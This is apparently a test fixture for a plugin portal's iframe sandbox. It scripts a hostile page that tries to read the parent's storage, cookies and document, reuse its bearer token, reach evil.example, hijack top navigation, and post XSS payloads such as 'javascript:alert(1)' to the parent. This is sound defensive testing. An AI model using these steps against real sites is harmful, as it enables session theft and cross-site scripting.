// What a hostile page tries in its frame; it tells in its own text how each attempt ended. Part of frames.test.mjs.
const outcomes = {};

async function attempt(name, work) {
  try {
    outcomes[name] = `done: ${await work()}`;
  } catch (error) {
    outcomes[name] = `refused: ${error.name}`;
  }
}

const loads = (element, name) =>
  new Promise((done, failed) => {
    element.onload = () => done('loaded');
    element.onerror = () => failed(new Error(name));
    document.body.append(element);
  });

async function attack({ token, api }) {
  const headers = { Authorization: `Bearer ${token}` };
  const status = (path) => fetch(path, { headers }).then((answer) => answer.status);
  await attempt('its own plugin', () => status(`${api}v1/invocations/none`));
  await attempt('the portal’s storage', () => window.parent.localStorage.length);
  await attempt('the portal’s document', () => window.parent.document.title);
  await attempt('storage of its own', () => window.localStorage.length);
  await attempt('a cookie', () => document.cookie);
  await attempt('the core', () => status('/platform/v1/runs'));
  await attempt('a renewal of the session', () => fetch('/auth/v1/refresh', { method: 'POST', credentials: 'include' }).then((answer) => answer.status));
  await attempt('another plugin', () => status('/inventory/v1/things'));
  await attempt('another site', () => status('https://evil.example/'));
  await attempt('an image elsewhere', () => loads(Object.assign(new Image(), { src: '/portal/sextant.svg' }), 'image'));
  await attempt('a script elsewhere', () => loads(Object.assign(document.createElement('script'), { src: '/portal/js/app.js' }), 'script'));
  await attempt('a script in the page', () => {
    document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = true' }));
    if (!window.ran) throw new Error('script');
    return 'ran';
  });
  await attempt('eval', () => (0, eval)('1 + 1'));
  await attempt('a window', () => {
    if (!window.open('https://evil.example/')) throw new Error('window');
    return 'opened';
  });
  await attempt('the top', () => {
    window.top.location = 'https://evil.example/';
    return 'gone';
  });
  await attempt('a frame in the frame', () => {
    const frame = document.createElement('iframe');
    document.body.append(Object.assign(frame, { src: '/portal/' }));
    return frame.contentWindow.location.href;
  });
  window.parent.postMessage({ sextant: 1, type: 'title', title: '<img src=x onerror=alert(1)> Sign in again' }, '*');
  window.parent.postMessage({ sextant: 1, type: 'route', route: 'javascript:alert(1)' }, '*');
  window.parent.postMessage({ sextant: 1, type: 'route', route: '//evil.example/' }, '*');
  document.querySelector('#outcomes').textContent = JSON.stringify({ outcomes, token });
}

window.addEventListener('message', ({ data }) => data.type === 'welcome' && attack(data));
window.parent.postMessage({ sextant: 1, type: 'hello' }, '*');
